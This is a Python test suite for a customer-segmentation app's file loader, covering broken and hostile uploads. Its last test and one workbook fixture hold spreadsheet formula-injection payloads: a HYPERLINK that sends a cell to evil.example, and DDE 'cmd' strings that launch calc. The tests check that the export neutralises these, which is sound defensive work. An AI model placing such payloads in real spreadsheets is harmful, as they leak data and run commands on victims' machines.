"""The bad-file corpus: every hostile or broken customer file, one expected outcome each.

``tests/data/bad/`` holds small files as they arrive from real exports (committed as they are);
``make_corpus.py`` next to them writes the big and binary ones into ``generated/``. :data:`CORPUS`
is the manifest: for each file, either

* :class:`Refused`: the core raises :class:`DataError`, at the stage named, and the message holds
  every listed phrase (what is wrong, where, and what to do); or
* :class:`Segmented`: load -> prepare -> fit(K) -> labelled_csv works and the download holds every
  row of the file, in order, each original cell exactly as written (formula cells with the ``'``
  prefix), plus a Segment for every row that has values.

The expected cells are read from the file by Python's own ``csv`` module, independently of the
loader, so a lost row, a shifted field or an altered cell shows up as a difference.
"""

from __future__ import annotations

import codecs
import csv
import importlib.util
import io
import sys
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest

from segmentation import DataError, fit, labelled_csv, load_table, prepare
from segmentation.export import csv_dialect, neutralise

BAD = Path(__file__).resolve().parent / "data" / "bad"


@dataclass(frozen=True)
class Refused:
    """The file is refused with a :class:`DataError` whose message contains every phrase in ``says``."""

    says: tuple[str, ...]
    stage: str = "load"  # "load", "prepare" or "fit": the earlier stages must succeed
    k: int = 2
    max_bytes: int | None = None


@dataclass(frozen=True)
class Segmented:
    """The file is segmented at ``k`` and the download keeps its ``rows`` rows, cells verbatim."""

    rows: int
    k: int = 2
    sep: str = ","
    encoding: str = "utf-8"  # how the test decodes the file to read the expected cells
    headerless: bool = False
    skip_lines: int = 0  # lines before the header that are not part of the table (Excel's "sep=")
    not_segmented: tuple[int, ...] = ()  # 0-based rows left with an empty Segment
    columns: tuple[str, ...] | None = None  # the table's column names after cleaning
    used: tuple[str, ...] | None = None  # the columns segmented on
    values: dict[str, list[str]] = field(default_factory=dict)  # expected raw cells of some columns
    audit: dict[str, str] = field(default_factory=dict)  # column -> phrase in its audit line
    notes: tuple[str, ...] = ()  # phrases in the notes about the table
    decimal: str = "."
    csv: bool = True  # False for workbooks: no csv reference, check ``values`` instead


ACT = "Upload the customer table as a CSV or .xlsx file."
MALL = ("CustomerID", "Gender", "Age", "Annual Income (k$)", "Spending Score (1-100)")

#: The manifest: file (relative to tests/data/bad) -> expected outcome.
CORPUS: dict[str, Refused | Segmented] = {
    # ---- Nothing to segment --------------------------------------------------------------------
    "empty.csv": Refused(("'empty.csv' is empty", "Export the customer table again")),
    "only_blank_lines.csv": Refused(("is empty", "Export the customer table again")),
    "only_header.csv": Refused(
        ("has column names ('CustomerID', 'Gender', 'Age', 'Annual Income (k$)' and 1 more) but no customer rows",)
    ),
    "bom_header_only.csv": Refused(("column names ('CustomerID', 'Gender', 'Age') but no customer rows",)),
    "one_row.csv": Refused(("only 1 customer row", "at least 2", "Upload the full customer table")),
    "all_text.csv": Refused(
        ("None of the columns can be used", "numbers, dates or categories", "'Name': Identifier"), stage="prepare"
    ),
    "all_missing.csv": Refused(
        ("Every cell of 'all_missing.csv' is empty or a missing-value marker", "Export the table again"),
        stage="prepare",
    ),
    "only_separators.csv": Refused(("Every cell of 'only_separators.csv' is empty",), stage="prepare"),
    "all_rows_identical.csv": Refused(
        ("Every customer has the same values", "'Gender' is 'Male'", "'Age' is 31", "nothing to tell"),
        stage="prepare",
    ),
    "fewer_distinct_than_k.csv": Refused(
        ("K=3 is more than the 2 different customers", "Choose K of at most 2"), stage="fit", k=3
    ),
    "k_larger_than_rows.csv": Refused(
        ("K=3 is more than the 2 different customers", "Choose K of at most 2"), stage="fit", k=3
    ),
    # ---- Not a text table ----------------------------------------------------------------------
    "png_renamed.csv": Refused(("'png_renamed.csv' is a PNG image, not a customer table", ACT)),
    "zip_renamed.csv": Refused(("is a ZIP archive", "Unzip it and upload the CSV inside")),
    "gzip_renamed.csv": Refused(("is a gzip-compressed file", ACT)),
    "old_excel_xls.csv": Refused(("old Excel (.xls) workbook", "password-protected", "save it as .xlsx or CSV")),
    "pdf_renamed.csv": Refused(("is a PDF document", ACT)),
    "html_error_page.csv": Refused(("is a web page (HTML), not a customer table", "download the export again")),
    "json_export.csv": Refused(("holds JSON data, not a table", "Export the customers as CSV or Excel")),
    "nul_bytes.csv": Refused(("NUL characters", "first on line 4", "Export the table again")),
    "merge_conflict.csv": Refused(("merge-conflict markers (lines 5, 7, 9)", "Resolve the conflict")),
    # ---- Broken structure ----------------------------------------------------------------------
    "ragged_too_many_fields.csv": Refused(
        (
            "more fields than its header (3)",
            "line 3 has 4",
            "line 5 has 5",
            "comma inside a value is probably not quoted",
        )
    ),
    "unquoted_thousands_commas.csv": Refused(
        ("line 2 has 4, line 4 has 4, line 6 has 4", "comma inside a value is probably not quoted")
    ),
    "trailing_separator_on_rows.csv": Refused(
        ("an extra, empty field", "line 2 has 4", "end with a stray comma", "Remove the trailing commas")
    ),
    "title_lines_before_header.csv": Refused(
        ("starts with a title ('Customer export 2024')", "start on line 4", "Delete the lines above the column names")
    ),
    "unclosed_quote.csv": Refused(('quote (") opened on line 3', "never closed", "upload again")),
    "whole_line_quoted.csv": Refused(
        ("Every line of 'whole_line_quoted.csv' is wrapped in quotes", "'Ana,31,40'", "Remove the quotes")
    ),
    "generated/wide_header_1m_columns.csv": Refused(("has 1,000,000 fields", "at most 2,000 columns")),
    "generated/wide_data_row_1m_fields.csv": Refused(("more fields than its header (5)", "line 3 has 1,000,000")),
    "generated/over_upload_limit.csv": Refused(
        ("over the 5.0 MB limit", "Upload a smaller export"), max_bytes=5_000_000
    ),
    "generated/xlsx_empty_workbook.xlsx": Refused(("Every sheet of 'xlsx_empty_workbook.xlsx' is empty",)),
    "generated/xlsx_header_only.xlsx": Refused(("column names ('CustomerID', 'Gender', 'Age') but no customer rows",)),
    "generated/xlsx_value_in_column_xfd.xlsx": Refused(
        ("has a value in column 16,384 (row 3)", "at most 2,000 columns", "Delete what lies to the right")
    ),
    "generated/xlsx_row_past_excel_limit.xlsx": Refused(
        ("has a row numbered 2,000,000, past Excel's last row (1,048,576)", "Save the sheet as CSV")
    ),
    # ---- Segmented, every row and cell kept ----------------------------------------------------
    "one_column.csv": Segmented(rows=8, used=("Annual Spend",)),
    "numeric_with_text.csv": Segmented(
        rows=12,
        used=("Age", "Income"),
        audit={"Income": "Column 'Income' has text in 2 row(s), e.g. 'unknown' in row 5, 'ask Bob' in row 8"},
    ),
    "excel_errors.csv": Segmented(
        rows=12,
        used=("Age", "Income", "Score"),
        audit={
            "Income": "Column 'Income' has text in 5 row(s), e.g. '#DIV/0!' in row 2, '#VALUE!' in row 4",
            "Score": "'#N/A' in row 3",
        },
    ),
    "infinities_and_1e308.csv": Segmented(
        rows=12, audit={"Balance": "has text in 4 row(s), e.g. 'inf' in row 2, '1e308' in row 4"}
    ),
    "mixed_decimal_marks_semicolon.csv": Segmented(  # "12.5" with decimal commas is not 125
        rows=6, sep=";", decimal=",", audit={"Umsatz": "Column 'Umsatz' has text in 1 row(s), e.g. '12.5' in row 2"}
    ),
    "mixed_decimal_marks_comma.csv": Segmented(  # "12,5" with decimal points is not 125
        rows=6, audit={"Spend": "Column 'Spend' has text in 1 row(s), e.g. '12,5' in row 2"}
    ),
    "huge_number_digits.csv": Segmented(rows=5, audit={"Spend": "'9999999999"}),
    "decimal_comma_semicolon.csv": Segmented(rows=8, sep=";", decimal=",", used=("Alter", "Umsatz", "Rabatt")),
    "semicolon_dot_decimals.csv": Segmented(rows=8, sep=";", used=("Age", "Balance", "Rate")),
    "space_thousands_separators.csv": Segmented(
        rows=6, sep=";", decimal=",", used=("Âge", "Chiffre d'affaires", "Panier")
    ),
    "tab_separated.tsv": Segmented(rows=12, sep="\t", columns=MALL),
    "pipe_separated.csv": Segmented(rows=12, sep="|", columns=MALL),
    "excel_sep_line.csv": Segmented(rows=4, sep=";", skip_lines=1, decimal=",", notes=("'sep=;'",)),
    "quoted_newlines_and_separators.csv": Segmented(
        rows=5,
        values={
            "Address": [
                "12 Main St\nSpringfield, IL",
                "1 Rue; de la Paix\r\nParis",
                "Flat 2\n\n3rd floor",
                "PO Box 9",
                "Seoul",
            ]
        },
    ),
    "windows_crlf_with_quoted_crlf.csv": Segmented(rows=4, values={"Note": ["two\r\nlines", "x", "a\r\nb\r\nc", "y"]}),
    "mac_cr_line_endings.csv": Segmented(rows=12, columns=MALL),
    "mac_cr_blank_line_empty_first_field.csv": Segmented(  # the empty ID must not shift Age into it
        rows=5, values={"CustomerID": ["1", "", "3", "", "5"], "Age": ["31", "45", "22", "60", "33"]}
    ),
    "whitespace_only_lines.csv": Segmented(rows=4, values={"Age": ["31", "45", "22", "60"]}),
    "ctrl_z_end_of_file.csv": Segmented(  # the DOS end-of-file mark is not a customer row
        rows=4, csv=False, values={"Age": ["31", "45", "22", "60"], "Spend": ["40", "52", "18", "70"]}
    ),
    "bare_carriage_return_in_cell.csv": Segmented(  # csv.reader would also cut the line at the \r
        rows=4, csv=False, values={"Note": ["ok", "first\rsecond", "x", "y"], "Spend": ["40", "52", "18", "70"]}
    ),
    "crlf_bare_carriage_return_in_cell.csv": Segmented(  # \r\n lines: a lone \r is still no line end
        rows=5,
        csv=False,
        values={
            "Note": ["ok", "first\rsecond", "x\ry", "two\r\nlines", "z"],
            "Spend": ["40", "52", "18", "70", "35"],
        },
    ),
    "ragged_too_few_fields.csv": Segmented(
        rows=6, not_segmented=(4,), values={"City": ["Lyon", "", "Paris", "", "", "Nice"]}
    ),
    "duplicate_headers.csv": Segmented(rows=5, columns=("Age", "Income", "Age (2)", "Income (2)", "income")),
    "blank_headers.csv": Segmented(rows=5, columns=("Age", "Column 2", "Income", "Column 4", "Score")),
    "excel_trailing_empty_columns.csv": Segmented(
        rows=7, not_segmented=(5, 6), used=("Age", "Income", "Score"), notes=("no name",)
    ),
    "header_repeated_in_middle.csv": Segmented(rows=13, not_segmented=(6,), columns=MALL, notes=("repeat the header",)),
    "totals_row_at_bottom.csv": Segmented(
        rows=9, not_segmented=(8,), notes=("Row 9 ('Total') looks like a totals row",)
    ),
    "headerless_numbers.csv": Segmented(rows=6, headerless=True, notes=("holds numbers, not column names",)),
    "utf8_bom.csv": Segmented(rows=4, encoding="utf-8-sig", columns=("Nom", "Ville", "Âge", "Dépense")),
    "utf16_le_bom.csv": Segmented(rows=4, encoding="utf-16", columns=("Nom", "Ville", "Âge", "Dépense")),
    "utf16_be_no_bom.csv": Segmented(rows=4, encoding="utf-16-be"),
    "utf16_excel_unicode_text.txt": Segmented(
        rows=4, sep="\t", encoding="utf-16", decimal=",", values={"City": ["München", "Köln", "Århus", "Genève"]}
    ),
    "cp1252_accents.csv": Segmented(
        rows=5,
        sep=";",
        encoding="cp1252",
        decimal=",",
        values={"Nom": ["José", "Françoise", "Chloë", "Gaëlle", "Œuvre — “Ltd”"]},
    ),
    "cp1252_undefined_byte.csv": Segmented(rows=4, encoding="latin-1"),
    "utf8_one_invalid_byte.csv": Segmented(
        rows=5, encoding="utf-8/cp1252", values={"Name": ["José", "Françoise", "Renée", "Chloë", "Gaëlle"]}
    ),
    "formula_cells.csv": Segmented(rows=6, used=("Balance", "Age")),
    "excel_text_trick.csv": Segmented(
        rows=4, used=("Age", "Spend"), values={"ID": ['="00123"', '="00124"', '="00125"', '="00126"']}
    ),
    "accounting_negatives_and_currency.csv": Segmented(rows=6, used=("Balance", "Spend", "Share")),
    "scientific_notation.csv": Segmented(rows=5, used=("Age", "Spend", "Visits")),
    "unicode_minus_and_nbsp.csv": Segmented(rows=5, used=("Age", "Balance")),
    "mixed_date_formats.csv": Segmented(
        rows=6,
        used=("Spend",),
        audit={"Signup": "Dates written in more than one way", "Last order": "Dates written in more than one way"},
    ),
    "leading_trailing_spaces.csv": Segmented(
        rows=4, columns=("Name", "Age", "Spend"), values={"Name": ["  Ana  ", "Bo", " Cy ", "\tDi\t"]}
    ),
    "unicode_headers.csv": Segmented(rows=5, columns=("客户编号", "年龄", "消费 💸", "Größe")),
    "duplicate_rows_many.csv": Segmented(rows=13, notes=("exact copies of an earlier row",)),
    "boolean_and_yes_no.csv": Segmented(rows=6, used=("Newsletter", "Member", "Spend")),
    "existing_segment_column.csv": Segmented(rows=4),
    "generated/long_cells.csv": Segmented(rows=6, used=("Age", "Spend"), audit={"Spend": "'999999999999"}),
    "generated/xlsx_several_sheets.xlsx": Segmented(
        rows=12,
        csv=False,
        columns=MALL,
        values={
            "Annual Income (k$)": [
                "15.5",
                "28.5",
                "41.5",
                "54.5",
                "67.5",
                "80.5",
                "93.5",
                "106.5",
                "119.5",
                "132.5",
                "22.5",
                "35.5",
            ]
        },
        notes=("read from 'Customers'",),
    ),
    "generated/xlsx_formatted_to_column_xfd.xlsx": Segmented(rows=500, csv=False, columns=("Age", "Spend")),
    "generated/xlsx_cover_sheet_first.xlsx": Segmented(
        rows=10, csv=False, columns=MALL, notes=("read from 'Customers'",)
    ),
    "generated/xlsx_errors_dates_formulas.xlsx": Segmented(
        rows=6,
        csv=False,
        used=("Signup", "Last visit", "Spend"),
        values={
            "Signup": ["2023-01-05", "2023-02-11", "2022-12-31", "2023-03-15", "2023-06-01", "2021-07-09"],
            "Last visit": [
                "2024-01-05 14:30:00",
                "2024-02-03 00:00:00",
                "2023-12-31 00:00:00",
                "2024-01-15 00:00:00",
                "2024-03-01 00:00:00",
                "2024-04-09 00:00:00",
            ],
            "Spend": ["40", "#DIV/0!", "18.25", "#N/A", "70", "95.5"],
            "Website": ["plain.example", '=HYPERLINK("http://evil.example")', "@SUM(A1)", "+cmd|x", "-2+3", "ok"],
        },
        audit={"Spend": "has text in 2 row(s), e.g. '#DIV/0!' in row 2, '#N/A' in row 4"},
    ),
}


def _stray_cp1252(error: UnicodeDecodeError) -> tuple[str, int]:
    # The reference reading of a UTF-8 file with a stray Windows-1252 byte.
    return error.object[error.start : error.end].decode("cp1252"), error.end


codecs.register_error("test-stray-cp1252", _stray_cp1252)


@pytest.fixture(scope="session")
def corpus() -> Path:
    """The corpus folder, with the generated files written (once per test session)."""
    spec = importlib.util.spec_from_file_location("make_corpus", BAD / "make_corpus.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    module.generate(BAD / "generated")
    return BAD


def test_the_manifest_covers_every_file_in_the_corpus(corpus):
    on_disk = {p.name for p in corpus.iterdir() if p.is_file() and p.suffix != ".py"}
    on_disk |= {f"generated/{p.name}" for p in (corpus / "generated").iterdir()}
    assert on_disk == set(CORPUS)
    assert len(CORPUS) >= 40


@pytest.mark.parametrize("name", sorted(n for n, case in CORPUS.items() if isinstance(case, Refused)))
def test_refused_with_a_message_that_says_what_to_do(corpus, name):
    case = CORPUS[name]
    path = corpus / name
    stage = "load"
    with pytest.raises(DataError) as caught:
        table = load_table(path, max_bytes=case.max_bytes)
        stage = "prepare"
        prepared = prepare(table)
        stage = "fit"
        fit(prepared, case.k)
    assert stage == case.stage, f"refused by {stage}, expected by {case.stage}"
    message = str(caught.value)
    for phrase in case.says:
        assert phrase in message, f"{phrase!r} not in {message!r}"
    assert len(message) < 1_000, "a message a person can read, not a dump of the file"


@pytest.mark.parametrize("name", sorted(n for n, case in CORPUS.items() if isinstance(case, Segmented)))
def test_segmented_with_every_row_and_cell_kept(corpus, name):
    case = CORPUS[name]
    path = corpus / name
    table = load_table(path)
    prepared = prepare(table)
    segmentation = fit(prepared, case.k)
    # The download comes back in the file's own separator and encoding.
    sep, _, encoding = csv_dialect(segmentation.prepared.table)
    out = pd.read_csv(
        io.BytesIO(labelled_csv(segmentation)), sep=sep, dtype=str, keep_default_na=False, encoding=encoding
    )

    # Every row, in order; the typed view aligned with the raw one.
    assert table.n_rows == len(out) == case.rows
    assert table.frame.shape == table.raw.shape
    assert table.decimal == case.decimal
    if case.columns is not None:
        assert tuple(table.columns) == case.columns
    if case.used is not None:
        assert prepared.columns == case.used
    width = len(table.columns)
    assert list(out.columns[:width]) == [neutralise(c) for c in table.columns]

    # Every original cell exactly as in the file, read independently with Python's csv module.
    if case.csv:
        assert table.delimiter == case.sep
        header, body = _reference_cells(path.read_bytes(), case)
        assert case.headerless or len(header) == width
        assert table.raw.to_numpy().tolist() == body
        assert out.iloc[:, :width].to_numpy().tolist() == [[neutralise(c) for c in row] for row in body]
    for column, expected in case.values.items():
        assert table.raw[column].tolist() == expected
        assert out[neutralise(column)].tolist() == [neutralise(v) for v in expected]

    # A segment for every row with values, none for the others; all K segments used.
    segments = out.iloc[:, width].tolist()
    assert [i for i, s in enumerate(segments) if s == ""] == list(case.not_segmented)
    assert {int(s) for s in segments if s} == set(range(1, case.k + 1))

    for column, phrase in case.audit.items():
        summary = prepared.report(column).summary()
        assert phrase in summary, f"{phrase!r} not in {summary!r}"
        assert len(summary) < 1_000
    notes = " ".join(prepared.notes)
    for phrase in case.notes:
        assert phrase in notes, f"{phrase!r} not in {notes!r}"


def _reference_cells(data: bytes, case: Segmented) -> tuple[list[str], list[list[str]]]:
    """The header and body cells of a CSV as Python's csv module reads them (short rows padded)."""
    if case.encoding == "utf-8/cp1252":
        text = data.decode("utf-8", errors="test-stray-cp1252")
    else:
        text = data.decode(case.encoding)
    limit = csv.field_size_limit()
    csv.field_size_limit(sys.maxsize)
    try:
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=case.sep))
    finally:
        csv.field_size_limit(limit)
    # Blank lines, and lines of nothing but spaces, are not rows (as in the loader).
    rows = [row for row in rows if row and not (len(row) == 1 and not row[0].strip())][case.skip_lines :]
    header, body = ([], rows) if case.headerless else (rows[0], rows[1:])
    width = max(len(header), *(len(row) for row in body))
    return header, [row + [""] * (width - len(row)) for row in body]


def test_formula_cells_are_neutralised_and_negative_numbers_kept(corpus):
    segmentation = fit(prepare(load_table(corpus / "formula_cells.csv")), 2)
    # The download comes back in the file's own separator and encoding.
    sep, _, encoding = csv_dialect(segmentation.prepared.table)
    out = pd.read_csv(
        io.BytesIO(labelled_csv(segmentation)), sep=sep, dtype=str, keep_default_na=False, encoding=encoding
    )
    assert out["Website"].tolist() == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "'+cmd|' /C calc'!A0",
        "'-2+3+cmd|x",
        "'\t=1+2",
        "plain.example",
        "-",  # a lone "-" (a common "missing") holds nothing to compute: kept as written
    ]
    assert out["Note"].tolist() == ["ok", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1", "'\r=cr", "'@mention", "--"]
    assert out["Balance"].tolist() == ["-12.5", "+3", "-1e3", "40", "0", "-0.5"]
